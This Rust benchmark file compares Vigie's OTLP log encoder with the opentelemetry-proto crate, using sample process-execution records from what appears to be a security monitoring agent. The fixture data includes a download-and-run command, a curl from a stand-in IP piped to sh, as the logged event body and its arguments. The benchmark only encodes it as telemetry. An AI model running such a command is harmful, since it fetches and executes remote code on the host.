//! Encodes the same records with Vigie's encoder and with `opentelemetry-proto`, in turns, and prints both.
//!
//! `cargo bench -p vigie-export`

#![allow(clippy::cast_precision_loss, reason = "rates for people to read")]

#[path = "../tests/fixtures/mod.rs"]
mod fixtures;

use std::hint::black_box;
use std::time::Instant;

use opentelemetry_proto::tonic::collector::logs::v1::ExportLogsServiceRequest;
use opentelemetry_proto::tonic::common::v1::any_value::Value as OtlpValue;
use opentelemetry_proto::tonic::common::v1::{AnyValue, ArrayValue, InstrumentationScope, KeyValue};
use opentelemetry_proto::tonic::logs::v1::{LogRecord, ResourceLogs, ScopeLogs};
use opentelemetry_proto::tonic::resource::v1::Resource;
use prost::Message;
use vigie_event::{Event, Value};
use vigie_export::otlp::{
    AttributeVisitor, Batcher, BatcherConfig, Record, RecordEncoder, RecordHead, RecordLimits, RecordVisitor,
    SCHEMA_URL, SCOPE_NAME, SCOPE_VERSION, walk_resource,
};

const RECORDS: usize = 512;
const WORKLOADS: usize = 8;
const ROUNDS: usize = 15;
const REPEATS: usize = 60;

/// Builds what `opentelemetry-proto` encodes.
#[derive(Default)]
struct Structs {
    record: LogRecord,
}

/// Takes a record and forgets it: what reading the fields off the registry costs alone.
struct Forget;

impl AttributeVisitor for Forget {
    fn attribute(&mut self, name: &str, value: &Value<'_>) {
        black_box((name, value));
    }
}

impl RecordVisitor for Forget {
    fn begin(&mut self, head: &RecordHead<'_>) {
        black_box(head);
    }

    fn end(&mut self, _: &RecordHead<'_>, _: u32) {}
}

fn any_value(value: &Value<'_>) -> AnyValue {
    let text = |text: &str| OtlpValue::StringValue(text.to_owned());
    let array = |values: Vec<OtlpValue>| {
        let values = values.into_iter().map(|value| AnyValue { value: Some(value) }).collect();
        OtlpValue::ArrayValue(ArrayValue { values })
    };
    let value = match value {
        Value::Null => None,
        Value::Bool(truth) => Some(OtlpValue::BoolValue(*truth)),
        Value::Int(number) => Some(OtlpValue::IntValue(*number)),
        Value::String(value) => Some(text(value)),
        Value::StringList(texts) => Some(array(texts.iter().map(|value| text(value)).collect())),
        Value::IntList(numbers) => Some(array(numbers.iter().map(|&number| OtlpValue::IntValue(number)).collect())),
    };
    AnyValue { value }
}

fn key_value(name: &str, value: &Value<'_>) -> KeyValue {
    KeyValue { key: name.to_owned(), value: Some(any_value(value)), ..KeyValue::default() }
}

impl AttributeVisitor for Structs {
    fn attribute(&mut self, name: &str, value: &Value<'_>) {
        self.record.attributes.push(key_value(name, value));
    }
}

impl RecordVisitor for Structs {
    fn begin(&mut self, head: &RecordHead<'_>) {
        self.record.time_unix_nano = head.time_unix_nano;
        self.record.observed_time_unix_nano = head.observed_time_unix_nano;
        self.record.severity_number = head.severity_number;
        self.record.body = Some(any_value(&Value::str(head.body)));
        head.event_name.clone_into(&mut self.record.event_name);
        if let Some(trace) = head.trace {
            self.record.trace_id = trace.trace_id.to_vec();
            self.record.span_id = trace.span_id.to_vec();
            self.record.flags = trace.flags.into();
        }
    }

    fn end(&mut self, _: &RecordHead<'_>, dropped: u32) {
        self.record.dropped_attributes_count = dropped;
    }
}

#[derive(Default)]
struct ResourceStructs(Vec<KeyValue>);

impl AttributeVisitor for ResourceStructs {
    fn attribute(&mut self, name: &str, value: &Value<'_>) {
        self.0.push(key_value(name, value));
    }
}

fn request(groups: Vec<(Vec<KeyValue>, Vec<LogRecord>)>) -> Vec<u8> {
    let resource_logs = groups
        .into_iter()
        .map(|(attributes, log_records)| ResourceLogs {
            resource: Some(Resource { attributes, ..Resource::default() }),
            scope_logs: vec![ScopeLogs {
                scope: Some(InstrumentationScope {
                    name: SCOPE_NAME.to_owned(),
                    version: SCOPE_VERSION.to_owned(),
                    ..InstrumentationScope::default()
                }),
                log_records,
                schema_url: SCHEMA_URL.to_owned(),
            }],
            schema_url: SCHEMA_URL.to_owned(),
        })
        .collect();
    ExportLogsServiceRequest { resource_logs }.encode_to_vec()
}

/// A record of 20 attributes and 952 bytes, as large as those that the design's target was measured with.
fn twenty(args: &[String], visitor: &mut impl RecordVisitor) {
    let head = RecordHead {
        time_unix_nano: fixtures::TIME,
        observed_time_unix_nano: fixtures::TIME + 1,
        severity_number: 9,
        severity_text: "",
        body: "bash -c curl -s http://203.0.113.7/x | sh",
        event_name: "vigie.process.exec",
        trace: Some(fixtures::exec_trace()),
    };
    visitor.begin(&head);
    for (name, value) in [
        ("log.record.uid", Value::str("01JJXW8N2S8M6Q3Z5Y7V9T1R4P")),
        ("vigie.event.name", Value::str("vigie.process.exec")),
        ("vigie.event.outcome", Value::str("success")),
        ("vigie.process.thread.id", Value::Int(4242)),
        ("vigie.process.thread.name", Value::str("bash")),
        ("vigie.process.uid", Value::str("9f86d081884c7d65")),
        ("process.pid", Value::Int(4242)),
        ("process.parent_pid", Value::Int(800)),
        ("process.vpid", Value::Int(7)),
        ("process.creation.time", Value::str("2026-01-31T12:00:00.120Z")),
        ("process.executable.path", Value::str("/usr/bin/bash")),
        ("process.executable.name", Value::str("bash")),
        ("process.command_args", Value::StringList(args.into())),
        ("process.working_directory", Value::str("/var/www/html/application")),
        ("process.user.id", Value::Int(33)),
        ("vigie.process.capabilities.effective_mask", Value::str("000001ffffffffff")),
        ("process.linux.cgroup", Value::str("/system.slice/docker-3f2a9c0000000000000000000000000000000000.scope")),
        ("vigie.process.parent.executable.path", Value::str("/usr/sbin/nginx")),
        ("vigie.process.namespace.mnt.id", Value::Int(4_026_531_841)),
        ("vigie.process.executable.in_memory", Value::Bool(false)),
    ] {
        visitor.attribute(name, &value);
    }
    visitor.end(&head, 0);
}

/// Records per second of each contender: the median of rounds in which they take turns, with the extremes.
fn compare(title: &str, mut contenders: [&mut dyn FnMut() -> usize; 2]) {
    let mut rates = [Vec::new(), Vec::new()];
    let mut bytes = [0; 2];
    for _ in 0..ROUNDS {
        for (index, run) in contenders.iter_mut().enumerate() {
            let start = Instant::now();
            for _ in 0..REPEATS {
                bytes[index] = black_box(run());
            }
            rates[index].push((RECORDS * REPEATS) as f64 / start.elapsed().as_secs_f64() / 1e6);
        }
    }
    println!("{title} ({} bytes a record)", bytes[0] / RECORDS);
    assert_eq!(bytes[0], bytes[1], "both encode the same");
    for (name, rates) in ["vigie", "opentelemetry-proto"].into_iter().zip(&mut rates) {
        rates.sort_by(f64::total_cmp);
        println!("  {name:<20} {:>6.2} M records/s  ({:.2} to {:.2})", rates[ROUNDS / 2], rates[0], rates[ROUNDS - 1]);
    }
    println!("  {:<20} {:>6.1} x", "faster", rates[0][ROUNDS / 2] / rates[1][ROUNDS / 2]);
}

fn main() {
    let args: Vec<String> = ["bash", "-c", "curl -s http://203.0.113.7/x | sh", "--", "x"].map(str::to_owned).into();
    let mut buffers = vec![Vec::new(); WORKLOADS];
    compare(
        "20 attributes, the records alone",
        [
            &mut || {
                buffers.iter_mut().for_each(Vec::clear);
                for index in 0..RECORDS {
                    twenty(&args, &mut RecordEncoder::new(&mut buffers[index % WORKLOADS]));
                }
                buffers.iter().map(Vec::len).sum()
            },
            &mut || {
                let mut scopes = vec![ScopeLogs::default(); WORKLOADS];
                for index in 0..RECORDS {
                    let mut structs = Structs::default();
                    twenty(&args, &mut structs);
                    scopes[index % WORKLOADS].log_records.push(structs.record);
                }
                scopes.iter().map(|scope| scope.encode_to_vec().len()).sum()
            },
        ],
    );

    let events: Vec<Event> = (0..WORKLOADS as u64).map(fixtures::exec_event_of).collect();
    let attributes = {
        let mut structs = Structs::default();
        Record::Event(&events[0]).walk(&RecordLimits::default(), &mut structs);
        structs.record.attributes.len()
    };
    let mut batcher = Batcher::new(BatcherConfig::default());
    compare(
        &format!("process.exec off the registry, {attributes} attributes, {WORKLOADS} resources, whole requests"),
        [
            &mut || {
                for index in 0..RECORDS {
                    assert!(batcher.add_event(&events[index % WORKLOADS]).is_none());
                }
                batcher.flush().map_or(0, |batch| batch.payload.len())
            },
            &mut || {
                let groups = events.iter().map(|event| {
                    let mut resource = ResourceStructs::default();
                    walk_resource(event, &mut resource);
                    let records = (0..RECORDS / WORKLOADS).map(|_| {
                        let mut structs = Structs::default();
                        Record::Event(event).walk(&RecordLimits::default(), &mut structs);
                        structs.record
                    });
                    (resource.0, records.collect())
                });
                request(groups.collect()).len()
            },
        ],
    );

    let start = Instant::now();
    for _ in 0..REPEATS {
        for index in 0..RECORDS {
            Record::Event(&events[index % WORKLOADS]).walk(&RecordLimits::default(), &mut Forget);
        }
    }
    let rate = (RECORDS * REPEATS) as f64 / start.elapsed().as_secs_f64() / 1e6;
    println!("the same {attributes} attributes read and not encoded\n  {:<20} {rate:>6.2} M records/s", "vigie");
}
